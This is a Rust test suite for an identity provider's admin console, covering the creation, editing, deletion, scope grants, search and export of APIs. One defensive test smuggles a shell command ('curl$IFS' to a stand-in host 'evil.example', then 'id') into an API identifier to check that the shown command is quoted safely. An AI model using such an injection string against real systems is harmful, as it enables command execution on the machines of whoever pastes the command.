//! APIs (resource servers) in the console: added, changed, granted to apps, deleted.

use std::time::Duration;

use latchkey::audit::EventType;
use latchkey::protocol::client::{ClientKind, ClientSettings};
use serde_json::json;

use crate::console::{console, events};
use crate::scenario::{Browser, PASSWORD, Page, Scenario, on_each_pairing, said};

const API: &str = "https://notes.example.com/api";

fn path(identifier: &str) -> String {
    let asked = url::Url::parse_with_params("http://x/admin/api", [("identifier", identifier)]).unwrap();
    format!("/admin/api?{}", asked.query().unwrap())
}

async fn add(browser: &Browser, typed: &[(&str, &str)]) -> Page {
    let form = browser.get("/admin/new-api").await;
    assert_eq!(form.name(), "console-api-new");
    browser.submit(&form, "identifier", typed, None).await
}

async fn with_api(given: &Scenario) -> Browser {
    let browser = console(given).await;
    let page = add(&browser, &[("identifier", API), ("name", "Notes"), ("scopes", "notes.read  notes.write"), ("lifetime", "120")]).await;
    assert_eq!((page.status, page.name().as_str()), (200, "console-api"), "{}", page.body);
    browser
}

#[tokio::test]
async fn an_api_is_added_changed_and_deleted_and_the_record_has_it() {
    on_each_pairing(async |given| {
        let browser = with_api(&given).await;
        assert_eq!(given.provider.snapshot().resource(API).map(|api| api.scopes.to_string()).as_deref(), Some("notes.read notes.write"));
        let (mine, theirs) = (browser.get(&path(API)).await, browser.get(&path(API)).await);
        let saved = browser.submit(&theirs, "version", &[("name", "Paper"), ("lifetime", "")], None).await;
        assert_eq!((saved.status, saved.text("h1")), (200, "Paper".to_owned()), "{}", saved.body);
        let told = browser.submit(&mine, "version", &[("name", "Mine")], None).await;
        assert_eq!((told.status, told.name().as_str()), (409, "console-api"));
        assert!(told.text("#lifetime-now") == said("console-now-empty"), "an empty value is told in words: {}", told.body);
        assert!(told.body.contains("value=\"Mine\"") && told.text("#name-now").contains("Paper"), "{}", told.body);
        assert_eq!(browser.submit(&told, "version", &[], None).await.status, 200);
        let page = browser.get(&path(API)).await;
        let wrong = browser.submit(&page, "confirm", &[("confirm", "Notes")], None).await;
        assert_eq!((wrong.status, wrong.text("#confirm-error").is_empty()), (422, false), "{}", wrong.body);
        let list = browser.submit(&page, "confirm", &[("confirm", API)], None).await;
        assert_eq!((list.status, list.name().as_str()), (200, "console-apis"), "{}", list.body);
        assert!(given.provider.snapshot().resource(API).is_none());
        assert_eq!(browser.get(&path(API)).await.status, 404);
        for (event, times) in [(EventType::ResourceCreated, 1), (EventType::ResourceUpdated, 2), (EventType::ResourceDeleted, 1)] {
            assert_eq!(events(&given, event).await.len(), times, "{event:?}");
        }
        let record = browser.get(&format!("/admin/audit?reference={API}")).await;
        assert!(record.body.matches("resource.").count() >= 4, "what was done to it is found by its identifier");
    })
    .await;
}

#[tokio::test]
async fn what_no_api_may_be_is_told_at_its_field_and_nothing_typed_is_lost() {
    on_each_pairing(async |given| {
        let browser = with_api(&given).await;
        let issuer = given.issuer.clone();
        for (field, typed) in [
            ("identifier", vec![("identifier", "notes")]),
            ("identifier", vec![("identifier", "https://a.example/#x")]),
            ("identifier", vec![("identifier", issuer.as_str())]),
            ("identifier", vec![("identifier", API)]),
            ("name", vec![("name", "")]),
            ("name", vec![("name", "\u{202e}eliH")]),
            ("scopes", vec![("scopes", "read openid")]),
            ("scopes", vec![("scopes", "re\"ad")]),
            ("scopes", vec![("scopes", "read, write")]),
            ("lifetime", vec![("lifetime", "0")]),
            ("clients", vec![("clients", "nobody")]),
        ] {
            let whole = [vec![("identifier", "https://a.example/"), ("name", "Typed name")], typed.clone()].concat();
            let page = add(&browser, &whole).await;
            assert_eq!((page.status, page.name().as_str()), (422, "console-api-new"), "{typed:?}: {}", page.body);
            assert!(!page.text(&format!("#{field}-error")).is_empty(), "{typed:?}: {}", page.body);
            assert!(field == "name" || page.body.contains("Typed name"), "what was typed stays");
        }
        assert_eq!(events(&given, EventType::ResourceCreated).await.len(), 1);
        // A client that was made a moment ago, elsewhere perhaps, is one.
        given.client("fresh").await;
        let made = add(&browser, &[("identifier", "https://b.example/"), ("name", "B"), ("clients", "fresh")]).await;
        assert_eq!((made.status, made.name().as_str()), (200, "console-api"), "{}", made.body);
    })
    .await;
}

#[tokio::test]
async fn a_scope_of_an_api_is_granted_on_the_page_of_the_app_and_takes_none_away() {
    on_each_pairing(async |given| {
        let browser = with_api(&given).await;
        given.person("alice@example.com").await;
        let app = given.client("app").await;
        let job = given.client_with("job", ClientKind::Service, json!({}), ClientSettings::default()).await;
        let asked = [("grant_type", "client_credentials"), ("resource", API), ("scope", "notes.read")];
        assert_eq!(job.post("/token", &asked).await.status, 400, "none was granted");
        for id in ["app", "job"] {
            let page = browser.get(&format!("/admin/apps/{id}")).await;
            let page = browser.submit(&page, "name", &[("api_scope_0", "notes.read"), ("name", id)], None).await;
            assert_eq!((page.status, page.name().as_str()), (200, "console-app"), "{}", page.body);
            assert!(page.body.contains("value=\"notes.read\" checked"), "{}", page.body);
        }
        job.post("/token", &asked).await.good();
        let scope = |id: &str| given.provider.snapshot().client(id).unwrap().client.metadata.scope.clone().unwrap();
        assert_eq!(scope("job"), "notes.read");
        assert!(scope("app").contains("openid") && scope("app").contains("offline_access"), "it may have all as before: {}", scope("app"));
        given.tokens(&given.browser(), &app, "openid email", "alice@example.com").await;
        let page = browser.get(&path(API)).await;
        assert!(page.text(".rows").contains("app") && page.text(".rows").contains("notes.read"), "{}", page.body);
        assert!(browser.get("/admin/apis").await.text("td.number").contains('2'));
        // Taken away again.
        let page = browser.get("/admin/apps/job").await;
        let mut fields = page.form("version").fields;
        fields.retain(|(name, _)| name != "api_scope_0");
        assert_eq!(browser.post("/admin/apps/job", &fields).await.status, 200);
        assert_eq!(job.post("/token", &asked).await.status, 400, "it is over at once");
    })
    .await;
}

#[tokio::test]
async fn saving_an_app_widens_no_scopes_that_it_did_not_touch() {
    on_each_pairing(async |given| {
        let browser = with_api(&given).await;
        let registered: [(&str, Option<&str>); 4] =
            [("none", None), ("standard", Some("openid email")), ("api", Some("notes.read")), ("mixed", Some("openid email notes.read"))];
        let scope = |id: &str| given.provider.snapshot().client(id).unwrap().client.metadata.scope.clone();
        for (id, scope) in registered {
            let metadata = scope.map_or(json!({}), |scope| json!({ "scope": scope }));
            given.client_with(id, ClientKind::Web, metadata, ClientSettings::default()).await;
        }
        given.provider.learn_changes().await.unwrap();
        for (id, before) in registered {
            for changed in [&[][..], &[("name", "Renamed")]] {
                let page = browser.get(&format!("/admin/apps/{id}")).await;
                assert_eq!(browser.submit(&page, "scopes", changed, None).await.status, 200, "{id}");
                assert_eq!(scope(id).as_deref(), before, "{id} {changed:?}");
            }
        }
        // The field is emptied, and the API alone is left.
        let page = browser.get("/admin/apps/mixed").await;
        assert_eq!(browser.submit(&page, "scopes", &[("scopes", "")], None).await.status, 200);
        assert_eq!(scope("mixed").as_deref(), Some("notes.read"));
        // Its box is the last thing that it has: without it the app would have every standard scope.
        let page = browser.get("/admin/apps/api").await;
        let mut fields = page.form("version").fields;
        fields.retain(|(name, _)| name != "api_scope_0");
        let refused = browser.post("/admin/apps/api", &fields).await;
        assert_eq!((refused.status, refused.text("#scopes-error").is_empty()), (422, false), "{}", refused.body);
        assert_eq!(scope("api").as_deref(), Some("notes.read"));
    })
    .await;
}

#[tokio::test]
async fn the_list_is_searched_sorted_and_taken_along() {
    on_each_pairing(async |given| {
        let browser = with_api(&given).await;
        for (identifier, name) in [("https://b.example/", "Beta"), ("https://z.example/", "Alpha")] {
            add(&browser, &[("identifier", identifier), ("name", name)]).await;
        }
        let order = async |query: &str| {
            let rows = browser.get(&format!("/admin/apis?{query}")).await.text("tbody");
            let mut names = ["Alpha", "Beta", "Notes"].map(|name| (rows.find(name), name)).to_vec();
            names.retain(|(at, _)| at.is_some());
            names.sort();
            names.into_iter().map(|(_, name)| name).collect::<Vec<_>>()
        };
        assert_eq!(order("").await, ["Alpha", "Beta", "Notes"]);
        assert_eq!(order("sort=-identifier").await, ["Alpha", "Notes", "Beta"]);
        assert_eq!(order("q=notes.write").await, ["Notes"], "by a scope");
        assert_eq!(browser.get("/admin/apis?q=nothing").await.text("table"), "");
        let lines = browser.get("/admin/export/apis?format=jsonl&q=notes").await.body;
        let row: serde_json::Value = serde_json::from_str(lines.trim()).unwrap();
        assert_eq!((row["identifier"].as_str(), row["apps"].as_u64()), (Some(API), Some(0)), "{row}");
    })
    .await;
}

#[tokio::test]
async fn attack_apis_are_the_owners_alone_and_ask_for_a_fresh_sign_in_and_our_own_form() {
    on_each_pairing(async |given| {
        let browser = with_api(&given).await;
        given.person("alice@example.com").await;
        let alice = given.browser();
        let page = alice.get("/account").await;
        alice.sign_in(&page, "alice@example.com", PASSWORD).await;
        for path in ["/admin/apis", "/admin/new-api", &path(API), "/admin/export/apis?format=csv"] {
            assert_eq!(alice.get(path).await.status, 403, "{path}");
        }
        let foreign = [("identifier".to_owned(), "https://evil.example/".to_owned()), ("name".to_owned(), "Evil".to_owned())];
        assert_eq!(browser.post("/admin/new-api", &foreign).await.status, 403, "no token of ours");
        let (page, new) = (browser.get(&path(API)).await, browser.get("/admin/new-api").await);
        given.later(Duration::from_secs(3_600));
        let asked = browser.submit(&page, "version", &[("name", "Kept name")], None).await;
        assert_eq!(asked.name(), "password", "{}", asked.body);
        let back = browser.submit(&asked, "password", &[("password", PASSWORD)], None).await;
        assert_eq!(back.name(), "console-api");
        assert!(back.body.contains("Kept name"), "nothing that was typed is lost: {}", back.body);
        given.later(Duration::from_secs(3_600));
        for (page, form, typed) in
            [(&new, "identifier", vec![("identifier", "https://x.example/"), ("name", "X")]), (&page, "confirm", vec![("confirm", API)])]
        {
            assert_eq!(browser.submit(page, form, &typed, None).await.name(), "password");
        }
        assert!(given.provider.snapshot().resource(API).is_some());
    })
    .await;
}

#[tokio::test]
async fn attack_h2_the_command_of_an_api_is_one_for_whoever_pastes_it_too() {
    on_each_pairing(async |given| {
        let browser = console(&given).await;
        let identifier = "https://api.example/v1;curl$IFS'evil.example/x'&id";
        given.resource(identifier, "read", &[]).await;
        given.provider.learn_changes().await.unwrap();
        let page = browser.get(&path(identifier)).await;
        assert_eq!(page.name(), "console-api", "{}", page.body);
        let command = page.text(".command bdi");
        assert_eq!(command, "latchkey resource update 'https://api.example/v1;curl$IFS'\\''evil.example/x'\\''&id'");
    })
    .await;
}
